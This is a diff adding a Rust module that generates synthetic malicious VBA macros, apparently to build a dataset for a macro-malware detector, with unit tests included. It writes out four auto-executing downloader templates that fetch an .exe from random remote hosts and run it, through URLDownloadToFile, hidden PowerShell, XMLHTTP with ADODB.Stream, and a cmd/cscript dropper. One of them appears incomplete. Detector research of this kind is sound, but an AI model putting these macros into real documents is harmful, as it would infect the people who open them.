@@ -1,0 +1,161 @@
+//! Malicious macro generation: the "Downloader" pattern the paper observes
+//! dominating VBA malware (§IV.A) — fetch a payload from a remote address
+//! and execute it, triggered by a document-open event.
+
+use super::pick;
+use rand::Rng;
+
+/// Generates one malicious (pre-obfuscation) macro module.
+///
+/// Families rotate between the delivery mechanisms seen in the wild:
+/// `URLDownloadToFile`, `WScript.Shell`-launched PowerShell, and
+/// `MSXML2.XMLHTTP` + `ADODB.Stream`. All use auto-execution entry points.
+pub fn generate<R: Rng + ?Sized>(rng: &mut R) -> String {
+    let url = random_url(rng);
+    let trigger = pick(rng, &["Document_Open", "AutoOpen", "Workbook_Open", "Auto_Open"]);
+    match rng.gen_range(0..4) {
+        0 => url_download(rng, trigger, &url),
+        1 => powershell(rng, trigger, &url),
+        2 => xmlhttp_stream(rng, trigger, &url),
+        _ => cmd_dropper(rng, trigger, &url),
+    }
+}
+
+fn random_url<R: Rng + ?Sized>(rng: &mut R) -> String {
+    let host: String = (0..rng.gen_range(8..16))
+        .map(|_| (b'a' + rng.gen_range(0u8..26)) as char)
+        .collect();
+    let tld = pick(rng, &["com", "net", "info", "ru", "cc", "biz"]);
+    let file: String = (0..rng.gen_range(4..10))
+        .map(|_| (b'a' + rng.gen_range(0u8..26)) as char)
+        .collect();
+    format!("http://{host}.{tld}/{file}.exe")
+}
+
+fn temp_path<R: Rng + ?Sized>(rng: &mut R) -> String {
+    let name: String = (0..rng.gen_range(5..10))
+        .map(|_| (b'a' + rng.gen_range(0u8..26)) as char)
+        .collect();
+    format!("\\{name}.exe")
+}
+
+fn url_download<R: Rng + ?Sized>(rng: &mut R, trigger: &str, url: &str) -> String {
+    let path = temp_path(rng);
+    format!(
+        "Attribute VB_Name = \"ThisDocument\"\r\n\
+         Private Declare Function URLDownloadToFile Lib \"urlmon\" Alias \"URLDownloadToFileA\" \
+         (ByVal pCaller As Long, ByVal szURL As String, ByVal szFileName As String, \
+         ByVal dwReserved As Long, ByVal lpfnCB As Long) As Long\r\n\
+         \r\n\
+         Sub {trigger}()\r\n\
+         \x20   Dim dest As String\r\n\
+         \x20   dest = Environ(\"TEMP\") & \"{path}\"\r\n\
+         \x20   URLDownloadToFile 0, \"{url}\", dest, 0, 0\r\n\
+         \x20   Shell dest, vbHide\r\n\
+         End Sub\r\n"
+    )
+}
+
+fn powershell<R: Rng + ?Sized>(rng: &mut R, trigger: &str, url: &str) -> String {
+    let sh = pick(rng, &["sh", "wsh", "runner", "launcher"]);
+    let path = temp_path(rng);
+    format!(
+        "Attribute VB_Name = \"ThisDocument\"\r\n\
+         Sub {trigger}()\r\n\
+         \x20   Dim {sh} As Object\r\n\
+         \x20   Set {sh} = CreateObject(\"WScript.Shell\")\r\n\
+         \x20   {sh}.Run \"powershell -WindowStyle Hidden -Command (New-Object \
+         Net.WebClient).DownloadFile('{url}', $env:TEMP + '{path}'); Start-Process \
+         ($env:TEMP + '{path}')\", 0, False\r\n\
+         End Sub\r\n"
+    )
+}
+
+fn xmlhttp_stream<R: Rng + ?Sized>(rng: &mut R, trigger: &str, url: &str) -> String {
+    let http = pick(rng, &["req", "http", "client"]);
+    let stream = pick(rng, &["st", "strm", "bin"]);
+    let path = temp_path(rng);
+    format!(
+        "Attribute VB_Name = \"ThisDocument\"\r\n\
+         Sub {trigger}()\r\n\
+         \x20   Dim {http} As Object\r\n\
+         \x20   Dim {stream} As Object\r\n\
+         \x20   Set {http} = CreateObject(\"MSXML2.XMLHTTP\")\r\n\
+         \x20   {http}.Open \"GET\", \"{url}\", False\r\n\
+         \x20   {http}.Send\r\n\
+         \x20   Set {stream} = CreateObject(\"ADODB.Stream\")\r\n\
+         \x20   {stream}.Type = 1\r\n\
+         \x20   {stream}.Open\r\n\
+         \x20   {stream}.Write {http}.responseBody\r\n\
+         \x20   {stream}.SaveToFile Environ(\"TEMP\") & \"{path}\", 2\r\n\
+         \x20   Shell Environ(\"TEMP\") & \"{path}\", vbHide\r\n\
+         End Sub\r\n"
+    )
+}
+
+fn cmd_dropper<R: Rng + ?Sized>(rng: &mut R, trigger: &str, url: &str) -> String {
+    let fnum = rng.gen_range(1..5);
+    let path = temp_path(rng);
+    format!(
+        "Attribute VB_Name = \"ThisDocument\"\r\n\
+         Sub {trigger}()\r\n\
+         \x20   Dim script As String\r\n\
+         \x20   script = Environ(\"TEMP\") & \"\\get.vbs\"\r\n\
+         \x20   Open script For Output As #{fnum}\r\n\
+         \x20   Print #{fnum}, \"Set x = CreateObject(\"\"MSXML2.XMLHTTP\"\")\"\r\n\
+         \x20   Print #{fnum}, \"x.Open \"\"GET\"\", \"\"{url}\"\", False\"\r\n\
+         \x20   Print #{fnum}, \"x.Send\"\r\n\
+         \x20   Close #{fnum}\r\n\
+         \x20   Shell \"cmd /c cscript \" & script & \" && start %TEMP%{path}\", vbHide\r\n\
+         End Sub\r\n"
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use rand::rngs::StdRng;
+    use rand::SeedableRng;
+
+    #[test]
+    fn all_families_have_autoexec_triggers_and_payload_urls() {
+        let mut rng = StdRng::seed_from_u64(1);
+        for _ in 0..40 {
+            let m = generate(&mut rng);
+            assert!(m.contains("http://"), "{m}");
+            let has_trigger = ["Document_Open", "AutoOpen", "Workbook_Open", "Auto_Open"]
+                .iter()
+                .any(|t| m.contains(t));
+            assert!(has_trigger);
+            assert!(m.len() >= 150, "must survive the length filter");
+        }
+    }
+
+    #[test]
+    fn macros_are_lexable() {
+        let mut rng = StdRng::seed_from_u64(2);
+        for _ in 0..20 {
+            let m = generate(&mut rng);
+            let a = vbadet_vba::MacroAnalysis::new(&m);
+            assert!(!a.procedure_names().is_empty() || m.contains("Declare Function"));
+            assert!(!a.strings().is_empty());
+        }
+    }
+
+    #[test]
+    fn rich_function_usage_is_present() {
+        let mut rng = StdRng::seed_from_u64(3);
+        let mut rich_seen = 0;
+        for _ in 0..40 {
+            let m = generate(&mut rng);
+            let a = vbadet_vba::MacroAnalysis::new(&m);
+            if a.call_sites()
+                .iter()
+                .any(|c| vbadet_vba::functions::categorize(c).is_some())
+            {
+                rich_seen += 1;
+            }
+        }
+        assert!(rich_seen > 30, "droppers should call rich builtins: {rich_seen}/40");
+    }
+}
